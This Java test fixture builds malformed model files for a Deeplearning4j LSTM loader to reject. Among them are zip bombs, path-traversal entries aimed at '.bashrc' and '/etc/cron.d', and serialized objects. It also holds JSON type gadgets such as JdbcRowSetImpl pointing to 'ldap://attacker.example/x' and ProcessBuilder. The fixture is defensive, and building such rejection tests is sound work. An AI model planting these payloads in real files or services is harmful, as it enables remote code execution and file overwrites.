package io.github.lstmforecast.dl4j.file;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;

import io.github.lstmforecast.Zips;
import io.github.lstmforecast.model.Normalizer;
import io.github.lstmforecast.model.SavedInputs;
import io.github.lstmforecast.rnn.Adam;
import io.github.lstmforecast.rnn.GateActivation;
import io.github.lstmforecast.signal.Scaling;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.UnaryOperator;

/** Model files that must be rejected, each made from a valid one of one input, 2 and 3 units, and Adam. */
public final class BadModels {
    private static final String CONFIGURATION = "configuration.json";
    private static final String COEFFICIENTS = "coefficients.bin";
    private static final String UPDATER_STATE = "updaterState.bin";
    private static final String NORMALIZER = "normalizer.bin";
    private static final String LSTM = "org.deeplearning4j.nn.conf.layers.LSTM";
    private static final int DIMENSION = 0x28; // offset of the length of a vector in its head
    private static final int FIRST_NUMBER = 0x71; // offset of the numbers of a vector in an entry
    private static final int SIZE_IN_DIRECTORY = 24; // from the signature of an entry of the directory

    private interface Change {
        void make(Map<String, byte[]> entries) throws IOException;
    }

    private interface Bytes {
        byte[] get() throws IOException;
    }

    private BadModels() {}

    /** All of them, by the name of the problem. */
    public static Map<String, byte[]> all() {
        Map<String, Bytes> all = new LinkedHashMap<>();
        all.put("empty", () -> new byte[0]);
        all.put("text", () -> "this is no zip".getBytes(UTF_8));
        all.put("truncated", () -> Arrays.copyOf(sound(), 2000));
        all.put("end-cut-off", () -> Arrays.copyOf(sound(), sound().length - 10));
        all.put("no-entries", () -> Zips.of(Map.of()));
        all.put("flipped-bit", BadModels::flippedBit);
        all.put(
                "entry-twice",
                () -> new String(sound(), ISO_8859_1)
                        .replace(UPDATER_STATE, COEFFICIENTS)
                        .getBytes(ISO_8859_1));
        all.put("bomb-that-says-so", () -> of(put(CONFIGURATION, () -> spaces(10 << 20))));
        all.put("bomb-that-hides-its-size", BadModels::bombThatHidesItsSize);
        all.put("says-a-gigabyte", BadModels::saysAGigabyte);
        all.put("path-out-of-the-zip", () -> of(put("../../../.bashrc", () -> new byte[1])));
        all.put("absolute-path", () -> of(put("/etc/cron.d/job", () -> new byte[1])));
        all.put("name-of-an-entry-with-an-escape-sequence", () -> of(put("\u001b[2Jmodel", () -> new byte[1])));
        all.put("long-name-of-an-entry", () -> of(put("x".repeat(60_000), () -> new byte[1])));
        all.put("serialized-preprocessor", () -> of(put("preprocessor.bin", BadModels::serialized)));
        all.put("serialized-normalizer", () -> of(put(NORMALIZER, BadModels::serialized)));
        all.put("normalizer-of-a-class", () -> of(put(NORMALIZER, BadModels::customNormalizer)));
        all.put(
                "normalizer-of-a-type-with-an-escape-sequence",
                () -> of(put(NORMALIZER, () -> normalizer("\u001b[2J"))));
        all.put(
                "normalizer-of-other-features",
                () -> of(put(
                        NORMALIZER,
                        () -> NormalizerEntry.rounded(Normalizer.of(Scaling.none(2)))
                                .orElseThrow()
                                .bytes())));
        all.put("normalizer-of-not-a-number", () -> of(put(NORMALIZER, BadModels::nanNormalizer)));
        all.put("no-configuration", () -> of(entries -> entries.remove(CONFIGURATION)));
        all.put("no-coefficients", () -> of(entries -> entries.remove(COEFFICIENTS)));
        all.put("configuration-that-is-no-json", () -> of(text(json -> "<model/>")));
        all.put("configuration-of-a-list", () -> of(text(json -> "[]")));
        all.put("configuration-with-a-key-twice", () -> of(text(json -> "{ \"confs\": 1, \"confs\": 2 }")));
        all.put("configuration-nested-deep", () -> of(text(json -> "[".repeat(100_000))));
        all.put(
                "configuration-of-a-number-of-many-digits",
                () -> of(text(json -> "{ \"a\": " + "9".repeat(5000) + " }")));
        all.put("configuration-with-text-behind", () -> of(text(json -> json + "{}")));
        all.put("configuration-that-is-huge", () -> of(put(CONFIGURATION, BadModels::hugeJson)));
        all.put(
                "configuration-with-bytes-that-are-no-text",
                () -> of(put(CONFIGURATION, () -> new byte[] {(byte) 0xff})));
        all.put("class-of-the-jdk", () -> of(replaced(LSTM, "javax.swing.JEditorPane")));
        all.put(
                "class-of-a-known-gadget",
                () -> of(replaced(
                        LSTM, "com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\" : \"ldap://attacker.example/x")));
        all.put(
                "class-of-a-type",
                () -> of(replaced(
                        "\"layerName\" : \"layer0\"", "\"dist\" : { \"type\" : \"java.lang.ProcessBuilder\" }")));
        all.put("class-of-a-shaded-library", () -> of(replaced(LSTM, "org.nd4j.shade.guava.io.Files")));
        all.put(
                "too-few-numbers",
                () -> of(put(COEFFICIENTS, () -> NumberArray.of(new float[7]).toEntry())));
        all.put(
                "too-many-numbers",
                () -> of(put(
                        COEFFICIENTS, () -> NumberArray.of(new float[100_000]).toEntry())));
        all.put(
                "numbers-of-64-bits",
                () -> of(put(COEFFICIENTS, () -> NumberArray.of(new double[108]).toEntry())));
        all.put("saved-before-beta4", () -> of(put(COEFFICIENTS, BadModels::oldArray)));
        all.put(
                "numbers-cut-off",
                () -> of(entries -> entries.put(COEFFICIENTS, Arrays.copyOf(entries.get(COEFFICIENTS), 300))));
        all.put("not-a-number", () -> of(number(COEFFICIENTS, 4, Float.NaN)));
        all.put("infinite-state-of-the-optimizer", () -> of(number(UPDATER_STATE, 0, Float.POSITIVE_INFINITY)));
        all.put("dimension-that-is-huge", () -> of(dimension(1L << 60)));
        all.put("dimension-below-zero", () -> of(dimension(-1)));
        Map<String, byte[]> made = new LinkedHashMap<>();
        all.forEach((name, bytes) -> made.put(name, made(bytes)));
        return made;
    }

    /** As Deeplearning4j 0.8.0 begins an array. */
    private static byte[] oldArray() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(bytes);
        out.writeUTF("JAVACPP");
        out.writeInt(8);
        out.writeUTF("INT");
        out.write(new byte[400]);
        return bytes.toByteArray();
    }

    /** A model of two inputs and one output that our own kernel does not run. */
    public static byte[] ofTwoInputsAndAnotherActivation() {
        return made(() -> {
            Map<String, byte[]> entries = Zips.entries(
                    NetworkFile.of(SavedModels.parameters(2, List.of(3), 1, GateActivation.SIGMOID), Optional.empty())
                            .toBytes());
            replaced("ActivationTanH", "ActivationSoftSign").make(entries);
            return Zips.of(entries);
        });
    }

    /** A valid model that was trained on the column {@code value} and the known input {@code holiday}. */
    public static byte[] ofNamedInputs() {
        return named(1, new SavedInputs(List.of("value"), List.of(new SavedInputs.Known("holiday", 0, 2)), 1));
    }

    /** A valid model that was trained on the columns {@code value} and {@code holiday}. */
    public static byte[] ofNamedTargets() {
        return named(2, new SavedInputs(List.of("value", "holiday"), List.of(), 1));
    }

    private static byte[] named(int outputs, SavedInputs inputs) {
        return made(() -> NetworkFile.of(
                        SavedModels.parameters(2, List.of(3), outputs, GateActivation.SIGMOID), Optional.empty())
                .with(Optional.of(inputs))
                .toBytes());
    }

    /** A valid model of two inputs, for a signal of one feature. */
    public static byte[] ofTwoInputs() {
        return made(
                () -> NetworkFile.of(SavedModels.parameters(2, List.of(3), 2, GateActivation.SIGMOID), Optional.empty())
                        .toBytes());
    }

    private static byte[] made(Bytes bytes) {
        try {
            return bytes.get();
        } catch (IOException e) {
            throw new UncheckedIOException("memory can be written", e);
        }
    }

    private static byte[] sound() throws IOException {
        return SavedModels.withOptimizer(
                        SavedModels.parameters(1, List.of(2, 3), 1, GateActivation.SIGMOID), Adam.of(0.01))
                .toBytes();
    }

    private static byte[] of(Change change) throws IOException {
        Map<String, byte[]> entries = Zips.entries(sound());
        change.make(entries);
        return Zips.of(entries);
    }

    private static Change put(String entry, Bytes content) {
        return entries -> entries.put(entry, content.get());
    }

    private static Change text(UnaryOperator<String> edit) {
        return entries -> entries.put(
                CONFIGURATION,
                edit.apply(new String(entries.get(CONFIGURATION), UTF_8)).getBytes(UTF_8));
    }

    private static Change replaced(String from, String to) {
        return text(json -> {
            if (!json.contains(from)) {
                throw new IllegalStateException("there is no " + from);
            }
            return json.replace(from, to);
        });
    }

    private static Change number(String entry, int index, float value) {
        return entries -> ByteBuffer.wrap(entries.get(entry)).putFloat(FIRST_NUMBER + index * Float.BYTES, value);
    }

    private static Change dimension(long length) {
        return entries -> ByteBuffer.wrap(entries.get(COEFFICIENTS)).putLong(DIMENSION, length);
    }

    private static byte[] flippedBit() throws IOException {
        byte[] zip = sound();
        zip[zip.length / 2] ^= 1;
        return zip;
    }

    private static byte[] spaces(int count) {
        byte[] spaces = new byte[count];
        Arrays.fill(spaces, (byte) ' ');
        return spaces;
    }

    /** Its size in the directory is less than what it unpacks to. */
    private static byte[] bombThatHidesItsSize() throws IOException {
        byte[] zip = of(put(CONFIGURATION, () -> spaces(10 << 20)));
        int directory = new String(zip, ISO_8859_1).indexOf("PK\1\2");
        ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN).putInt(directory + SIZE_IN_DIRECTORY, 1000);
        return zip;
    }

    private static byte[] saysAGigabyte() throws IOException {
        byte[] zip = sound();
        int directory = new String(zip, ISO_8859_1).indexOf("PK\1\2");
        int second = new String(zip, ISO_8859_1).indexOf("PK\1\2", directory + 1);
        ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN).putInt(second + SIZE_IN_DIRECTORY, 1_000_000_000);
        return zip;
    }

    private static byte[] serialized() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(new ArrayList<>(List.of("a gadget")));
        }
        return bytes.toByteArray();
    }

    private static byte[] customNormalizer() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(bytes);
        out.write(normalizer("CUSTOM"));
        out.writeUTF("com.example.Evil");
        return bytes.toByteArray();
    }

    private static byte[] normalizer(String type) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(bytes);
        out.writeUTF("NORMALIZER");
        out.writeInt(1);
        out.writeUTF(type);
        return bytes.toByteArray();
    }

    private static byte[] nanNormalizer() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        DataOutputStream out = new DataOutputStream(bytes);
        out.write(normalizer("STANDARDIZE"));
        out.writeBoolean(false);
        NumberArray.of(new float[] {Float.NaN}).writeRow(out);
        NumberArray.of(new float[] {1}).writeRow(out);
        return bytes.toByteArray();
    }

    /** Digits, which a zip can't compress much, so that it is not a zip bomb. */
    private static byte[] hugeJson() {
        StringBuilder json = new StringBuilder("{ \"a\" : [ 0");
        for (int i = 0; json.length() < 5 << 20; i++) {
            json.append(", ").append(i * 2654435761L);
        }
        return json.append(" ] }").toString().getBytes(UTF_8);
    }
}
